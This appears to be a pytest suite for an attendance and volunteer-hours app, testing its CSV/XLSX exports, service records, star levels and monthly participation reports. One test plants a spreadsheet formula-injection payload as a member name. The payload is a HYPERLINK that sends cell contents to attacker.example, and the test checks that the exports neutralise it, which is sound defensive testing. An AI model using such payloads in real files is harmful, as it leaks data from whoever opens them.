"""Reports and exports compared with the database and with a hand-computed fixture: the attendance sheet
(CSV via the csv module, XLSX via openpyxl), the service record with its star levels, and the monthly
participation report."""
import csv
import io
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from server.attendance.models import Attendance
from server.auth.models import User
from server.common.timeutil import to_local, to_utc_naive
from server.events.services import new_event
from server.extensions import db
from server.hours.models import EventServiceInfo, HoursReview
from server.reports.service_record import STAR_THRESHOLDS, star_level

SHANGHAI = ZoneInfo("Asia/Shanghai")


def local(y, mo, d, h=9, mi=0) -> datetime:
    """A deployment-local wall-clock time as the naive UTC the database stores."""
    return to_utc_naive(datetime(y, mo, d, h, mi, tzinfo=SHANGHAI))


def event(kind, title, start, hours=2, **fields):
    e = new_event(kind, title, start, start + timedelta(hours=hours), **fields)
    db.session.add(e)
    db.session.flush()
    return e


def attend(e, user_id, state="checked_in", minutes=0, late=False, hours=None, out=None, method="qr", **fields):
    fields.setdefault("note", "")
    if out is not None:
        fields.setdefault("hours_claimed", hours)
        fields.update(checkout_at=e.starts_at + timedelta(minutes=out), checkout_method="qr")
    a = Attendance(event_id=e.id, user_id=user_id, state=state, checkin_at=e.starts_at + timedelta(minutes=minutes),
                   checkin_method=method, late=late, hours_confirmed=hours, **fields)
    db.session.add(a)
    db.session.flush()
    return a


def read_csv(resp) -> list[list[str]]:
    assert resp.status_code == 200, resp.data[:300]
    assert resp.headers["Content-Type"].startswith("text/csv")
    assert resp.data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens the Chinese text right
    return list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))


def read_xlsx(resp):
    assert resp.status_code == 200, resp.data[:300]
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(resp.data))


# ---------------------------------------------------------------- attendance sheet

@pytest.fixture
def party(world, ctx):
    """A party day of branch_a on 2025-03-10 09:00 Shanghai: a1 on time, a2 late (manual), a3 annulled;
    org_a and a4 absent."""
    with ctx():
        e = event("party_day", "三月主题党日", local(2025, 3, 10), host_org_id=world.branch_a_id, status="closed")
        attend(e, world.ids.a1, minutes=-3)
        attend(e, world.ids.a2, minutes=12, late=True, method="manual", note="忘带手机")
        attend(e, world.ids.a3, state="annulled", minutes=1)
        db.session.commit()
        return e.id


def test_attendance_csv_matches_the_database(world, party, login, q):
    rows = read_csv(login(world.phones.org_a).get(f"/api/v1/events/{party}/attendance.csv"))
    assert rows[0] == ["序号", "姓名", "所在支部", "签到时间", "是否迟到", "签退时间", "申报时长（小时）",
                       "确认时长（小时）", "状态", "签到方式", "签退方式", "备注"]
    body = rows[1:]
    assert [r[1] for r in body[:3]] == ["甲一", "甲三", "甲二"]  # by check-in time
    assert {r[1] for r in body[3:]} == {"甲组织者", "甲四"}  # then the absent roster members
    a1, a3, a2, org_a, a4 = body
    assert a1[3] == "2025-03-10 08:57:00" and a1[4] == "否" and a1[8] == "已签到" and a1[9] == "扫码"
    assert a2[3] == "2025-03-10 09:12:00" and a2[4] == "是" and a2[9] == "手工登记" and a2[11] == "忘带手机"
    assert a3[8] == "已作废"
    assert org_a[8] == a4[8] == "缺席" and org_a[3] == "" and org_a[4] == ""
    assert {r[2] for r in body} == {"第一支部"}
    db_rows = q("select u.name, a.checkin_at from attendance a join users u on u.id = a.user_id "
                "where a.event_id = :e order by a.checkin_at", e=party)
    for (name, checkin_utc), row in zip(db_rows, body, strict=False):
        assert row[1] == name
        if isinstance(checkin_utc, str):  # SQLite hands raw SQL datetimes back as text
            checkin_utc = datetime.fromisoformat(checkin_utc)
        local_text = checkin_utc.replace(tzinfo=ZoneInfo("UTC")).astimezone(SHANGHAI).strftime("%Y-%m-%d %H:%M:%S")
        assert row[3] == local_text


def test_attendance_xlsx_matches_the_csv(world, party, login):
    client = login(world.phones.org_a)
    csv_rows = read_csv(client.get(f"/api/v1/events/{party}/attendance.csv"))
    wb = read_xlsx(client.get(f"/api/v1/events/{party}/attendance.xlsx"))
    assert wb.sheetnames == ["签到表", "活动信息"]
    sheet = [[c for c in row] for row in wb["签到表"].iter_rows(values_only=True)]
    assert list(sheet[0]) == csv_rows[0]
    for xrow, crow in zip(sheet[1:], csv_rows[1:], strict=True):
        as_text = ["" if v is None else v.strftime("%Y-%m-%d %H:%M:%S") if isinstance(v, datetime) else str(v)
                   for v in xrow]
        assert as_text == crow
    assert sheet[1][3] == datetime(2025, 3, 10, 8, 57)  # a real date, in local time
    info = dict(wb["活动信息"].iter_rows(min_row=2, values_only=True))
    assert info["活动名称"] == "三月主题党日" and info["应到人数"] == 5 and info["签到人数"] == 2
    assert info["迟到人数"] == 1 and info["缺席人数"] == 3 and info["已作废"] == 1
    assert info["开始时间"] == datetime(2025, 3, 10, 9, 0)


def test_attendance_export_hours_and_permissions(world, ctx, login):
    with ctx():
        e = event("volunteer_service", "河道清理", local(2025, 4, 2, 14), hours=3, host_org_id=world.branch_a_id)
        attend(e, world.ids.b1, state="checked_out", hours=2.5, out=150)
        db.session.commit()
        eid = e.id
    rows = read_csv(login(world.phones.org_a).get(f"/api/v1/events/{eid}/attendance.csv"))
    assert rows[1][1:] == ["乙一", "第二支部", "2025-04-02 14:00:00", "否", "2025-04-02 16:30:00", "2.5", "2.5",
                           "已签退", "扫码", "扫码", ""]
    for phone in (world.phones.org_b, world.phones.b1, world.phones.liaison1):
        assert login(phone).get(f"/api/v1/events/{eid}/attendance.csv").status_code == 403
        assert login(phone).get(f"/api/v1/events/{eid}/attendance.xlsx").status_code == 403
    assert login(world.phones.admin).get("/api/v1/events/999999/attendance.xlsx").status_code == 404


# ---------------------------------------------------------------- service record

@pytest.mark.parametrize("hours,level", [(0, 0), (99.99, 0), (100, 1), (299.5, 1), (300, 2), (599, 2), (600, 3),
                                         (999.9, 3), (1000, 4), (1499, 4), (1500, 5), (5000, 5)])
def test_star_levels_at_their_thresholds(hours, level):
    assert STAR_THRESHOLDS == (100, 300, 600, 1000, 1500)
    assert star_level(hours) == level


@pytest.fixture
def record(world, ctx):
    """a1's services: counted ones in March 2025 and one in February; pending / rejected / party days not."""
    with ctx():
        duty = event("community_duty", "疫苗接种点值守", local(2025, 3, 8), hours=3,
                     host_community_id=world.c1_id, place_name="幸福里社区", created_by_id=world.ids.liaison1)
        db.session.add(EventServiceInfo(event_id=duty.id, recipient="接种群众", content="引导、测温",
                                        leader_name="王队长", recorder_name=""))
        a = attend(duty, world.ids.a1, state="confirmed", hours=2.5, out=150, confirmed_by_id=world.ids.liaison1)
        db.session.add(HoursReview(attendance_id=a.id, evaluation="excellent", comment="", publicity_days=0,
                                   corrections=0))
        vol = event("volunteer_service", "河道清理", local(2025, 3, 20, 14), hours=3, host_org_id=world.branch_a_id,
                    description="清理河道垃圾", created_by_id=world.ids.org_a)
        attend(vol, world.ids.a1, state="checked_out", hours=3.0, out=180)
        attend(vol, world.ids.a2, state="checked_out", hours=3.0, out=180)
        feb = event("volunteer_service", "敬老院陪伴", local(2025, 2, 14), hours=2, host_org_id=world.branch_a_id)
        attend(feb, world.ids.a1, state="confirmed", hours=2.0, out=120)
        pending = event("community_duty", "垃圾分类督导", local(2025, 3, 22), host_community_id=world.c1_id)
        attend(pending, world.ids.a1, state="pending", hours=2.0, out=120)
        rejected = event("community_duty", "夜间巡逻", local(2025, 3, 23), host_community_id=world.c1_id)
        attend(rejected, world.ids.a1, state="rejected", out=120)
        party = event("party_day", "三月主题党日", local(2025, 3, 10), host_org_id=world.branch_a_id)
        attend(party, world.ids.a1)
        db.session.commit()


def test_service_record_json(world, record, login):
    resp = login(world.phones.a1).get(f"/api/v1/members/{world.ids.a1}/service-record?from=2025-03-01&to=2025-03-31")
    assert resp.status_code == 200, resp.get_json()
    body = resp.get_json()
    assert body["member"] == {"id": world.ids.a1, "name": "甲一", "branch_name": "第一支部"}
    assert body["from"] == "2025-03-01" and body["to"] == "2025-03-31"
    duty, vol = body["entries"]
    assert {k: duty[k] for k in ("activity", "date", "place", "recipient", "content", "hours", "evaluation_label",
                                 "leader", "recorder")} == {
        "activity": "疫苗接种点值守", "date": "2025-03-08", "place": "幸福里社区", "recipient": "接种群众",
        "content": "引导、测温", "hours": 2.5, "evaluation_label": "优秀", "leader": "王队长", "recorder": "一联络员"}
    assert {k: vol[k] for k in ("activity", "date", "recipient", "content", "hours", "leader", "recorder")} == {
        "activity": "河道清理", "date": "2025-03-20", "recipient": "", "content": "清理河道垃圾", "hours": 3.0,
        "leader": "甲组织者", "recorder": "扫码签退自动记录"}
    assert body["totals"] == {"entries": 2, "hours": 5.5, "cumulative_hours": 7.5, "star_level": 0,
                              "star_label": "未达星级", "next_threshold": 100, "hours_to_next": 92.5}
    whole = login(world.phones.a1).get(f"/api/v1/members/{world.ids.a1}/service-record").get_json()
    assert whole["totals"]["entries"] == 3 and whole["totals"]["hours"] == 7.5


def test_service_record_csv_and_printable_page(world, record, login):
    client = login(world.phones.org_a)
    rows = read_csv(client.get(f"/api/v1/members/{world.ids.a1}/service-record?from=2025-03-01&to=2025-03-31"
                               "&format=csv"))
    assert rows[0][:8] == ["序号", "活动名称", "活动类型", "服务日期", "服务地点", "服务对象", "服务内容",
                           "服务时长（小时）"]
    assert rows[1][1:8] == ["疫苗接种点值守", "社区服务", "2025-03-08", "幸福里社区", "接种群众", "引导、测温", "2.5"]
    assert rows[1][8:] == ["优秀", "王队长", "一联络员"]
    totals = {r[0]: r for r in rows[3:] if r}
    assert totals["合计"][7] == "5.5" and totals["累计服务时长（小时）"][1] == "7.5"
    page = client.get(f"/api/v1/members/{world.ids.a1}/service-record?format=html")
    assert page.status_code == 200 and page.mimetype == "text/html"
    html = page.data.decode()
    assert "志愿服务记录" in html and "甲一" in html and "疫苗接种点值守" in html and "<script" not in html
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]


def test_service_record_permissions(world, record, login):
    url = f"/api/v1/members/{world.ids.a1}/service-record"
    for phone in (world.phones.a1, world.phones.org_a, world.phones.org_general, world.phones.liaison1,
                  world.phones.admin):
        assert login(phone).get(url).status_code == 200, phone
    for phone in (world.phones.a2, world.phones.org_b, world.phones.liaison2):
        assert login(phone).get(url).status_code == 403, phone
    assert login(world.phones.a1).get(url + "?from=2025-03-31&to=2025-03-01").status_code == 422


def test_star_level_reached_exactly_at_100_hours(world, ctx, login):
    with ctx():
        long_duty = event("community_duty", "长期值守", local(2025, 5, 1), hours=120, host_community_id=world.c1_id)
        attend(long_duty, world.ids.a1, state="confirmed", hours=99.5, out=99.5 * 60)
        db.session.commit()
    client = login(world.phones.a1)
    assert client.get(f"/api/v1/members/{world.ids.a1}/service-record").get_json()["totals"]["star_level"] == 0
    with ctx():
        db.session.execute(db.update(Attendance).where(Attendance.user_id == world.ids.a1)
                           .values(hours_confirmed=100.0))
        db.session.commit()
    totals = client.get(f"/api/v1/members/{world.ids.a1}/service-record").get_json()["totals"]
    assert totals["star_level"] == 1 and totals["star_label"] == "一星级志愿者" and totals["next_threshold"] == 300


# ---------------------------------------------------------------- participation report

@pytest.fixture
def month(world, ctx):
    """March 2025 in the general branch's tree. Active members: general 1 (org_general), 第一支部 4 (org_a,
    a1, a2, a4; a3 is inactive), 第二支部 2 (org_b, b1). Registered: a1, a2 (c1), b1 (c2)."""
    ids = world.ids
    with ctx():
        db.session.get(User, ids.a3).active = False
        p1 = event("party_day", "三月主题党日（一支部）", local(2025, 3, 10), host_org_id=world.branch_a_id,
                   status="closed")
        attend(p1, ids.a1)
        attend(p1, ids.a2, minutes=15, late=True)
        attend(p1, ids.a4, state="annulled")
        attend(p1, ids.a3)  # inactive: not expected, not counted
        p2 = event("party_day", "三月主题党日（总支）", local(2025, 3, 20), host_org_id=world.general_id)
        attend(p2, ids.a1)
        attend(p2, ids.b1, minutes=20, late=True)
        attend(p2, ids.org_general)
        p3 = event("party_day", "二月主题党日", local(2025, 2, 15), host_org_id=world.branch_b_id, status="closed")
        attend(p3, ids.b1)
        p4 = event("party_day", "取消的党日", local(2025, 3, 25), host_org_id=world.branch_a_id, status="cancelled")
        v1 = event("volunteer_service", "河道清理", local(2025, 3, 5, 14), hours=3, host_org_id=world.branch_a_id)
        attend(v1, ids.a1, state="checked_out", hours=2.0, out=120)
        attend(v1, ids.a2, state="pending", out=90, hours=None, hours_claimed=1.5)
        attend(v1, ids.b1, state="confirmed", hours=3.0, out=180)
        d1 = event("community_duty", "接种点值守", local(2025, 3, 8), host_community_id=world.c1_id)
        attend(d1, ids.a1, state="confirmed", hours=1.5, out=90)
        attend(d1, ids.a2, state="rejected", out=60)
        d2 = event("community_duty", "一月值守", local(2025, 1, 12), host_community_id=world.c1_id)
        attend(d2, ids.b1, state="confirmed", hours=2.0, out=120)
        d3 = event("community_duty", "去年值守", local(2024, 12, 28), host_community_id=world.c2_id)
        attend(d3, ids.b1, state="confirmed", hours=2.0, out=120)
        db.session.commit()
        return {"p1": p1.id, "p2": p2.id, "p4": p4.id}


NUMBERS = ("members", "registered", "served", "expected", "attended", "late", "absent", "attendance_rate",
           "volunteer_service_hours", "community_duty_hours", "hours", "registered_share", "served_share")


def pick(row):
    return tuple(row[k] for k in NUMBERS)


def test_participation_numbers_match_the_hand_computed_fixture(world, month, login):
    resp = login(world.phones.org_general).get(f"/api/v1/reports/participation?org_id={world.general_id}"
                                               "&month=2025-03")
    assert resp.status_code == 200, resp.get_json()
    body = resp.get_json()
    rows = {r["name"]: pick(r) for r in body["rows"]}
    assert [r["name"] for r in body["rows"]] == ["总支（本级）", "第一支部", "第二支部"]
    #                         mem reg srv exp att late abs rate    vol  comm  hours reg%    srv%
    assert rows["总支（本级）"] == (1, 0, 0, 1, 1, 0, 0, 1.0, 0.0, 0.0, 0.0, 0.0, 0.0)
    assert rows["第一支部"] == (4, 2, 1, 8, 3, 1, 5, 0.375, 2.0, 1.5, 3.5, 0.5, 0.25)
    assert rows["第二支部"] == (2, 1, 0, 2, 1, 1, 1, 0.5, 3.0, 0.0, 3.0, 0.5, 0.0)
    assert pick(body["totals"]) == (7, 3, 1, 11, 5, 2, 6, 0.4545, 5.0, 1.5, 6.5, 0.4286, 0.1429)
    assert body["totals"]["party_days"] == 2
    parties = {p["event_id"]: (p["expected"], p["attended"], p["late"], p["absent"], p["attendance_rate"])
               for p in body["party_days"]}
    assert parties == {month["p1"]: (4, 2, 1, 2, 0.5), month["p2"]: (7, 3, 1, 4, 0.4286)}
    absent = sorted((a["event_id"], a["member_id"]) for a in body["absentees"])
    ids = world.ids
    assert absent == sorted([(month["p1"], ids.org_a), (month["p1"], ids.a4), (month["p2"], ids.org_a),
                             (month["p2"], ids.a2), (month["p2"], ids.a4), (month["p2"], ids.org_b)])
    assert {(a["event_id"], a["member_id"]) for a in body["late_arrivals"]} == {(month["p1"], ids.a2),
                                                                                  (month["p2"], ids.b1)}
    assert body["trend"] == [
        {"month": "2025-01", "expected": 0, "attended": 0, "excused": 0, "attendance_rate": None,
         "volunteer_hours": 2.0},
        {"month": "2025-02", "expected": 2, "attended": 1, "excused": 0, "attendance_rate": 0.5,
         "volunteer_hours": 0.0},
        {"month": "2025-03", "expected": 11, "attended": 5, "excused": 0, "attendance_rate": 0.4545,
         "volunteer_hours": 6.5}]
    charts = body["charts"]
    assert charts["attendance_rate"] == [{"label": "总支（本级）", "value": 1.0}, {"label": "第一支部", "value": 0.375},
                                         {"label": "第二支部", "value": 0.5}]
    assert charts["trend"]["attendance_rate"] == [None, 0.5, 0.4545]
    assert body["period"]["from"] == "2025-03-01T00:00:00+08:00" and body["period"]["to"] == "2025-04-01T00:00:00+08:00"


def test_participation_of_one_branch_and_defaults(world, month, login):
    body = login(world.phones.org_a).get("/api/v1/reports/participation?month=2025-03").get_json()
    assert body["org"]["id"] == world.branch_a_id  # default: the organizer's own organization
    assert [pick(r) for r in body["rows"]] == [(4, 2, 1, 8, 3, 1, 5, 0.375, 2.0, 1.5, 3.5, 0.5, 0.25)]
    assert body["rows"][0]["name"] == "第一支部"


def test_participation_permissions(world, month, login):
    url = "/api/v1/reports/participation?month=2025-03&org_id="
    assert login(world.phones.org_a).get(url + str(world.general_id)).status_code == 403
    assert login(world.phones.org_b).get(url + str(world.branch_a_id)).status_code == 403
    assert login(world.phones.a1).get(url + str(world.branch_a_id)).status_code == 403
    assert login(world.phones.admin).get(url + str(world.branch_a_id)).status_code == 200
    resp = login(world.phones.admin).get("/api/v1/reports/participation")
    assert resp.status_code == 422
    resp = login(world.phones.org_a).get("/api/v1/reports/participation?month=2025-13")
    assert resp.status_code == 422 and resp.get_json()["error"]["code"] == "report_bad_period"


def test_participation_csv_and_workbook_carry_the_same_numbers(world, month, login):
    client = login(world.phones.org_general)
    base = f"/api/v1/reports/participation?org_id={world.general_id}&month=2025-03"
    body = client.get(base).get_json()
    rows = read_csv(client.get(base + "&format=csv"))
    assert rows[0][:5] == ["组织", "党员人数", "应到人次", "实到人次", "出勤率"]
    assert [r[0] for r in rows[1:]] == ["总支（本级）", "第一支部", "第二支部", "合计"]
    total = rows[-1]
    assert total[1:4] == ["7", "11", "5"] and total[4] == "45.45%" and total[7] == "0" and total[10] == "6.5"

    wb = read_xlsx(client.get(base + "&format=xlsx"))
    assert wb.sheetnames == ["参与情况汇总", "主题党日", "缺席名单", "迟到名单", "签到明细", "全年趋势"]
    summary = list(wb["参与情况汇总"].iter_rows(min_row=2, values_only=True))
    for xrow, jrow in zip(summary, body["rows"] + [body["totals"]], strict=True):
        assert xrow[0] == jrow["name"] and xrow[1] == jrow["members"] and xrow[2] == jrow["expected"]
        assert xrow[3] == jrow["attended"] and xrow[4] == jrow["attendance_rate"] and xrow[10] == jrow["hours"]
        assert xrow[7] == jrow["excused"]
    assert wb["参与情况汇总"].cell(row=2, column=5).number_format == "0.00%"
    assert len(list(wb["缺席名单"].iter_rows(min_row=2))) == 6
    parties = list(wb["主题党日"].iter_rows(min_row=2, values_only=True))
    assert parties[0][0] == "三月主题党日（一支部）" and parties[0][1] == datetime(2025, 3, 10, 9, 0)
    detail = list(wb["签到明细"].iter_rows(min_row=2, values_only=True))
    # P1: a1 a2 a4 a3; P2: a1 b1 org_general; V1: a1 a2 b1; D1 (by members of the tree): a1 a2
    assert len(detail) == 12
    assert {r[0] for r in detail} == {"三月主题党日（一支部）", "三月主题党日（总支）", "河道清理", "接种点值守"}
    late_row = next(r for r in detail if r[4] == "甲二" and r[0] == "三月主题党日（一支部）")
    assert late_row[6] == datetime(2025, 3, 10, 9, 15) and late_row[7] == "是"


def test_exports_write_formula_looking_names_as_text(world, party, login, ctx):
    """A member named '=HYPERLINK(…)' shows as that text in the CSV and the XLSX; nothing evaluates."""
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"点我")'
    with ctx():
        db.session.execute(text("update users set name = :n where id = :i"), {"n": evil, "i": world.ids.a1})
        db.session.commit()
    client = login(world.phones.org_a)
    rows = read_csv(client.get(f"/api/v1/events/{party}/attendance.csv"))
    assert [r[1] for r in rows if "HYPERLINK" in r[1]] == ["'" + evil]
    resp = client.get(f"/api/v1/events/{party}/attendance.xlsx")
    names = [c for ws in read_xlsx(resp).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.value, c.data_type) for c in names] == [(evil, "s")]
    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_participation_counts_only_party_days_that_have_ended(world, login, ctx):
    """A party day still open, or two weeks away, is no absence yet: it is listed apart (evaluation issue)."""
    now = datetime.now(SHANGHAI).replace(tzinfo=None)
    with ctx():
        start = to_utc_naive(datetime(now.year, now.month, 1, 9, tzinfo=SHANGHAI))
        held = event("party_day", "月初党日", start, host_org_id=world.branch_a_id, status="published")
        attend(held, world.ids.a1)
        utc_now = to_utc_naive(datetime.now(SHANGHAI))
        running = event("party_day", "正在进行的党日", utc_now - timedelta(minutes=30), hours=2,
                        host_org_id=world.branch_a_id)
        attend(running, world.ids.a2)
        coming = event("party_day", "两周后的党日", utc_now + timedelta(days=14), host_org_id=world.branch_a_id)
        db.session.commit()
        held_id, running_id, coming_id = held.id, running.id, coming.id
        in_month = {e.id for e in (running, coming) if to_local(e.starts_at).month == now.month}
    month = f"{now.year}-{now.month:02d}"
    body = login(world.phones.org_a).get(f"/api/v1/reports/participation?month={month}").get_json()
    counted = {p["event_id"] for p in body["party_days"]}
    apart = {p["event_id"]: p for p in body["party_days_not_yet_held"]}
    if start > utc_now:  # the first of the month, before nine: nothing has been held yet
        assert held_id in apart
    else:
        assert counted == {held_id}
        roster = body["party_days"][0]["expected"]
        assert body["totals"]["absent"] == roster - 1 and body["totals"]["expected"] == roster
    if running_id in in_month:  # (not when the month began less than half an hour ago)
        assert apart[running_id]["open"] is True and apart[running_id]["checked_in"] == 1
    if coming_id in in_month:
        assert apart[coming_id]["open"] is False and apart[coming_id]["checked_in"] == 0
    assert not counted & {running_id, coming_id}
    assert {a["event_id"] for a in body["absentees"]} <= counted


def test_moves_and_deactivations_leave_past_reports_as_they_were(world, month, login):
    """Accounts issue, item 5: who was in a branch when a party day started is what a past month counts."""
    general = login(world.phones.org_general)
    url = f"/api/v1/reports/participation?org_id={world.general_id}&month=2025-03"

    def past_figures():
        body = general.get(url).get_json()
        rows = {r["name"]: pick(r)[3:11] for r in body["rows"]}  # party days and hours, not today's member shares
        return rows, body["party_days"], body["absentees"], body["late_arrivals"], body["trend"]

    before = past_figures()
    assert general.post(f"/api/v1/members/{world.ids.a2}/move",
                        json={"branch_id": world.branch_b_id, "reason": "调入第二支部"}).status_code == 200
    assert general.post(f"/api/v1/members/{world.ids.a4}/deactivate", json={"reason": "调离"}).status_code == 200
    assert past_figures() == before
    now = general.get(f"/api/v1/reports/participation?org_id={world.general_id}").get_json()
    members = {r["name"]: r["members"] for r in now["rows"]}
    assert members["第一支部"] == 2 and members["第二支部"] == 3  # today: a2 is in branch_b, a4 is gone
